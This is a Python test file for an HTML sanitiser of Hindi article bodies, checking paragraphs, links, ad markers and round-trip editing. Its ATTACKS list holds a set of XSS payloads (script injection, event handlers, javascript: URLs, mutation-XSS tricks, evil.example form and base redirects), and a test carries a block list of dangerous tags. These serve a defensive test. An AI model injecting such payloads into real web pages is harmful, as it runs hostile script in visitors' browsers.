import pytest
from hypothesis import given
from hypothesis import strategies as st

from articles.sanitising import body_from, clean_body, for_editing

TAGS = (
    "p h1 h2 ul ol li blockquote strong em b br div script style svg math table td select option template "
    "textarea title plaintext button object pre"
)
PIECES = [f"<{slash}{tag}>" for tag in TAGS.split() for slash in ("", "/")] + [
    '<a href="https://a.example">',
    '<a href="javascript:alert(1)">',
    *["</a>", "<!--", "-->", "[विज्ञापन_२]", "&amp;", "&lt;", "&nbsp;", "<", ">", "नदी", "पुल"],
    *(" ", "\n", "\n\n", "\r\n", "\u00a0"),
]
MARKUP = st.lists(st.sampled_from(PIECES), max_size=15).map("".join)

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<a href="javascript:alert(1)">क</a>',
    '<a href="java\tscript:alert(1)">क</a>',
    '<a href="&#x6a;avascript:alert(1)">क</a>',
    '<a href=" JaVaScRiPt:alert(1)">क</a>',
    '<a href="data:text/html,<script>alert(1)</script>">क</a>',
    '<a href="vbscript:msgbox(1)">क</a>',
    '<p style="background:url(javascript:alert(1))">क</p>',
    '<p onclick="alert(1)" id="comments" name="body">क</p>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<form action="//evil.example"><input name=x></form>',
    "<base href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p>]]><script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_body_runs(attack):
    clean = clean_body(attack).lower()
    tags = clean.replace("&lt;", "")
    for danger in (
        "<script",
        "<img",
        "<svg",
        "<iframe",
        "<form",
        "<base",
        "<style",
        "<math",
        " on",
        "script:",
        " id=",
    ):
        assert danger not in tags
    assert "data:" not in clean


@pytest.mark.parametrize("marker", ["{{ 7*7 }}", "{% debug %}", "[[x]]"])
def test_template_signs_are_text(marker):
    assert clean_body(marker) == f"<p>{marker}</p>"


def test_blank_lines_make_paragraphs_and_single_ones_line_breaks():
    assert (
        clean_body("पहला\r\n\r\nदूसरा\nपंक्ति\n \n\nतीसरा")
        == "<p>पहला</p>\n\n<p>दूसरा<br>पंक्ति</p>\n\n<p>तीसरा</p>"
    )


def test_signs_that_mean_something_in_html_are_text():
    assert clean_body("5 < 6 & 7 > 2") == "<p>5 &lt; 6 &amp; 7 &gt; 2</p>"


def test_stress_is_weight_because_devanagari_has_no_italics():
    assert clean_body("<p><em>नया</em> <i>पुल</i> <b>खुला</b></p>") == (
        "<p><strong>नया</strong> <strong>पुल</strong> <strong>खुला</strong></p>"
    )


def test_links_keep_their_address_and_lose_the_way_back():
    assert clean_body('<a href="https://a.example/x" target="_blank">क</a>') == (
        '<p><a href="https://a.example/x" rel="noopener noreferrer">क</a></p>'
    )
    assert 'href="mailto:a@a.example"' in clean_body('<a href="mailto:a@a.example">क</a>')


@pytest.mark.parametrize("address", ["javascript:1", "ftp://a.example/", "tel:100", "data:,x", "blob:x"])
def test_a_link_that_leads_off_the_web_is_only_its_words(address):
    assert clean_body(f'<a href="{address}">क</a>') == "<p>क</p>"


def test_lists_headings_and_quotations_stay():
    html = "<h2>क</h2>\n\n<ul><li>ख</li><li>ग</li></ul>\n\n<blockquote><p>घ</p></blockquote>"
    assert clean_body(html) == html


def test_empty_blocks_go():
    assert clean_body("<p></p><p>&nbsp;</p><p><br></p><ul><li></li></ul><p>क</p>") == "<p>क</p>"
    assert clean_body(" \n\n ") == ""


@pytest.mark.parametrize("text", ["[विज्ञापन_२]", "<p>[ विज्ञापन - 2 ]</p>", "[ad_2]"])
def test_an_ad_marker_has_a_paragraph_of_its_own(text):
    assert clean_body(f"क\n\n{text}\n\nख") == "<p>क</p>\n\n<p>[विज्ञापन_2]</p>\n\n<p>ख</p>"


def test_a_marker_among_words_is_words():
    assert clean_body("यहाँ [विज्ञापन_2] था") == "<p>यहाँ [विज्ञापन_2] था</p>"


@given(MARKUP | st.text())
def test_what_is_clean_stays_as_it_is(text):
    clean = clean_body(text)
    assert clean_body(clean) == clean


@given(st.lists(st.text(alphabet="कखि<>&\"' a/।p", min_size=1, max_size=20).filter(str.strip), max_size=5))
def test_plain_paragraphs_come_out_as_text_whatever_they_hold(texts):
    body = body_from(texts)
    assert body.count("<p>") == len(texts)
    assert "<" not in body.replace("<p>", "").replace("</p>", "")


def test_an_editor_gets_back_what_was_typed():
    typed = "पहला & दूसरा\n\n<strong>तीसरा</strong> शब्द\nनई पंक्ति\n\n<h2>शीर्षक</h2>\n\n[विज्ञापन_2]\n\n5 &lt; 6"
    assert for_editing(clean_body(typed)) == typed


@given(MARKUP | st.text())
def test_a_body_opened_and_saved_unchanged_is_the_same(text):
    body = clean_body(text)
    assert clean_body(for_editing(body)) == body
